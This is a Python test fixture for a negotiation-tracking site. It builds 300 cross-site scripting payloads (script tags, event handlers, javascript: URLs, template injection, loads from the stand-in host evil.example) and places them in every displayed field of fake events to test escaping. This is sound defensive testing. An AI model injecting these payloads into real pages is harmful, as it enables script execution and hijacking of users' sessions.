"""A ledger of traps for the pages."""

from __future__ import annotations

from collections.abc import Sequence
from typing import Any

from tests.facts import event_id

BIDI = "\u202eevil\u202c"
HOSTILE = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "</title></style></textarea><svg onload=alert(1)>",
    "{{ 7 * 7 }}{% raw %}",
    "javascript:alert(1)",
    BIDI,
    "zero\u200bwidth\u200d \ufeff",
    "W" * 20_000,
    "👩‍👩‍👧‍👦🏳️‍🌈" * 50,
    "Ã̸̧̢̛̤̜̙͇" * 30,
)
"""Texts that an event may hold and a page must neither run nor break at."""


_BREAKS = ("", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", "`", "\\u003c")
_RUNS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example></script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<form action=javascript:alert(1)><button>x",
    "<button formaction=javascript:alert(1)>x",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>@import '//evil.example'</style>",
    "<div style=background:url(//evil.example)>",
    "<math><mtext></mtext><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{constructor.constructor('alert(1)')()}}",
    "<p hx-on:load=alert(1) hx-get=//evil.example hx-trigger=load>x",
)
PAYLOADS = tuple(f"{breaks}{runs}" for breaks in _BREAKS for runs in _RUNS)
"""300 texts that would run, load or lead away where one of them were put into a page as it is."""


def traps(texts: Sequence[str] = HOSTILE, first: int = 0) -> list[dict[str, Any]]:
    """Return events of a negotiation with hostile text in every field that a page shows; the ids of
    its positions count from a first one."""
    reports = [
        {
            "published": "2025-12-20",
            "publisher": text[:400],
            "quote": text,
            "language": "en",
            "title": text[:400],
            "url": f"https://example.org/{n}",
        }
        for n, text in enumerate(texts)
    ]
    found: list[dict[str, Any]] = [
        {"type": "negotiation-opened", "title": texts[0], "summary": texts[1]}
    ]
    for n, text in enumerate(texts):
        found += _trap(n, text, reports[n], event_id(500 + first + n))
    return found


def _trap(n: int, text: str, report: dict[str, Any], identity: str) -> list[dict[str, Any]]:
    about = {"occurred": "2025-12-20", "reports": [report]}
    return [
        {"type": "party-registered", "party": f"p{n}", "name": text},
        {"type": "person-registered", "person": f"h{n}", "name": text},
        {"type": "issue-defined", "issue": f"i{n}", "title": text, "question": text},
        {
            "type": "position-stated",
            "id": identity,
            "party": f"p{n}",
            "issue": f"i{n}",
            "stance": "rejects",
            "summary": text,
            "quote": text,
            "conditions": [text],
            **about,
        },
        {
            "type": "position-stated",
            "party": f"p{n}",
            "issue": f"i{n}",
            "stance": "accepts",
            "summary": text,
            "attribution": "third-party",
            "attributed_by": f"person:h{n}",
            **about,
        },
        {
            "type": "statement-made",
            "statement": f"s{n}",
            "speaker": f"person:h{n}",
            "summary": text,
            "text": text,
            **about,
        },
        {"type": "meeting-held", "meeting": f"m{n}", "title": text, "place": text, **about},
        {
            "type": "meeting-announced",
            "meeting": f"x{n}",
            "title": text,
            "place": text,
            "expected": "2026-01-05",
            **about,
        },
        {
            "type": "plan-introduced",
            "plan": f"l{n}",
            "title": text,
            "points": [
                {
                    "point": "one",
                    "number": 1,
                    "heading": text,
                    "text": text,
                    "text_status": "verbatim",
                }
            ],
            **about,
        },
    ]
